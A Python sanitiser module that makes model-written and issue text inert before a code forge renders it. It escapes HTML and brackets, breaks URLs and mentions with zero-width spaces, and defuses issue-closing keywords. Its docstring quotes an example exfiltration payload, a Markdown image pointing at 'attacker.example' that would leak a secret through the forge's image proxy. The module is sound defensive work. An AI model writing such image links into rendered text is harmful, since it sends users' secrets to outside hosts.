"""Model-written text made inert before a forge renders it: no link to follow, no image to load.

A forge renders Markdown in comments, the tracking comment and pull request bodies, and its
image proxy fetches every image it shows: `![x](https://attacker.example/?q=<secret>)` in text
the model wrote would send the secret out with no network tool at all. So `neutralize` is the one
sanitiser for model and issue text that planner posts:

- HTML is escaped (`<img>` is text);
- backslashes are escaped first, then every bracket: no Markdown link, image or reference
  definition can form (`\\[x\\](//host)` was one: the model's backslash escaped ours);
- URLs are broken for the autolinker (`https:\u200b//…`, `www\u200b.…`, `@\u200b`), so they stay
  readable as text and lead nowhere, and no @mention notifies anyone;
- closing keywords lose their force (`“fixes” #42`).

The one exception is an inline link (never an image) to the repository's own forge host, when the
caller names it: planner's notes link to its own comments that way. What comes out is checked with
the CommonMark parser the forge's renderer follows (planner.text.markdown): should any link but
those survive, every punctuation character is escaped instead.
"""

from __future__ import annotations

import logging
import re
from urllib.parse import urlsplit

from planner.text.markdown import rendered_links

log = logging.getLogger(__name__)

ZERO_WIDTH_SPACE = "\u200b"
SCHEME = re.compile(r"(?i)\b([a-z][a-z0-9+.\-]*):(?=//)")
WWW = re.compile(r"(?i)\bwww\.")
BRACKET = re.compile(r"([\[\]])")
INLINE_LINK = re.compile(r"(?<![\\!])\[([^\[\]\n\\]*)\]\((https?://[^\s()\\]+)\)")
MENTION = re.compile(r"@(?=[A-Za-z0-9_])")
CLOSING_KEYWORD = re.compile(
    r"(?i)\b(clos(?:e[sd]?|ing)|fix(?:e[sd]|ing)?|resolv(?:e[sd]?|ing)|implement(?:s|ed|ing)?)"
    r"(?=:?\s+(?:issues?\s+)?(?:[\w.-]+/[\w.-]+)?(?:#|!|https?://|[A-Z][A-Z0-9_]+-\d))"
)
"""A closing keyword followed by an issue reference (GitHub's and GitLab's patterns): in a
commit message or a pull request's text it would close that issue when merged."""
ADDRESS = re.compile(r"(?i)(?:[a-z][a-z0-9+.\-]*:)?//[^\s\"'<>()\\]+|www\.[^\s\"'<>()\\]+")
"""An address in a rendered link: with a scheme, scheme-relative, or GFM's bare `www.`."""
MARKER_LINE = re.compile(r"<!-- planner:[\w:.-]*(?: [\w:.=-]*)* -->")
"""A line holding only one of planner's own HTML comment markers."""
PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
"""Every ASCII punctuation character: CommonMark lets each be escaped with a backslash."""


def neutralize(text: str, own_host: str = "") -> str:
    """Model or issue text made inert for a comment (the module's docstring); inline links to
    `own_host`, the forge's host, stay."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return no_closing_keywords(MENTION.sub(f"@{ZERO_WIDTH_SPACE}", inert_links(escaped, own_host)))


def no_closing_keywords(text: str) -> str:
    """`fixes #42` becomes `“fixes” #42`: readable, and no forge reads it as closing #42."""
    return CLOSING_KEYWORD.sub(lambda match: f"“{match.group(1)}”", text)


def inert_links(text: str, own_host: str = "") -> str:
    """`text` with no Markdown link, image or autolink left in it, except inline links to
    `own_host` (a host name, compared case-insensitively; "" keeps none)."""
    pieces, position = [], 0
    for match in INLINE_LINK.finditer(text) if own_host else ():
        if _host(match.group(2)) == own_host.casefold():
            pieces += [_inert(text[position : match.start()]), match.group(0)]
            position = match.end()
    made = "".join([*pieces, _inert(text[position:])])
    if any(_host(link) != own_host.casefold() or not own_host for link in rendered_links(made)):
        log.error("model text still rendered a link after it was made inert; escaping it all")
        return _all_escaped(text)
    return made


def _all_escaped(text: str) -> str:
    """The last resort: every punctuation character escaped, every address broken."""
    broken = text.replace(":", f":{ZERO_WIDTH_SPACE}").replace("@", f"@{ZERO_WIDTH_SPACE}")
    return PUNCTUATION.sub(r"\\\1", broken.replace(".", f"{ZERO_WIDTH_SPACE}."))


def _inert(text: str) -> str:
    text = BRACKET.sub(r"\\\1", text.replace("\\", "\\\\"))
    text = SCHEME.sub(lambda m: f"{m.group(1)}:{ZERO_WIDTH_SPACE}", text)
    text = WWW.sub(f"www{ZERO_WIDTH_SPACE}.", text)
    return MENTION.sub(f"@{ZERO_WIDTH_SPACE}", text)


def inert_post(body: str, own_host: str = "") -> str:
    """What planner posts, checked as the forge will render it. A link or image that leads
    off the forge's own host makes the lines holding it inert (planner's own
    `<!-- planner:… -->` marker lines are never touched), and the slip is logged; relative
    links stay on the forge. The parts taken from the model or people are made inert where
    they are put together; this is the last check on the whole, so nothing planner posts
    can load an outside image or lead elsewhere."""
    strays = _off_host(body, own_host)
    if not strays:
        return body
    log.error("a post held %s link(s) or image(s) to other hosts; it was made inert", len(strays))
    lines = body.split("\n")
    for _ in range(2):  # a link can span lines (a reference definition): then all of them
        lines = [
            line
            if MARKER_LINE.fullmatch(line) or not any(url in line for url in strays)
            else neutralize(line, own_host)
            for line in lines
        ]
        if not _off_host("\n".join(lines), own_host):
            return "\n".join(lines)
        strays = [*strays, *_off_host("\n".join(lines), own_host)]
    return "\n".join(line if MARKER_LINE.fullmatch(line) else _all_escaped(line) for line in lines)


def _off_host(body: str, own_host: str) -> list[str]:
    """The addresses of other hosts among what `body` renders as links and images."""
    host, found = own_host.casefold(), []
    for link in rendered_links(body):
        for url in ADDRESS.findall(link):
            name = urlsplit(url if "//" in url else f"//{url}").hostname or ""
            if name and name.casefold() != host:
                found.append(url)
    return found


def _host(url: str) -> str:
    try:
        parts = urlsplit(url)
    except ValueError:
        return ""
    if parts.scheme not in ("http", "https"):
        return ""
    return (parts.hostname or "").casefold()
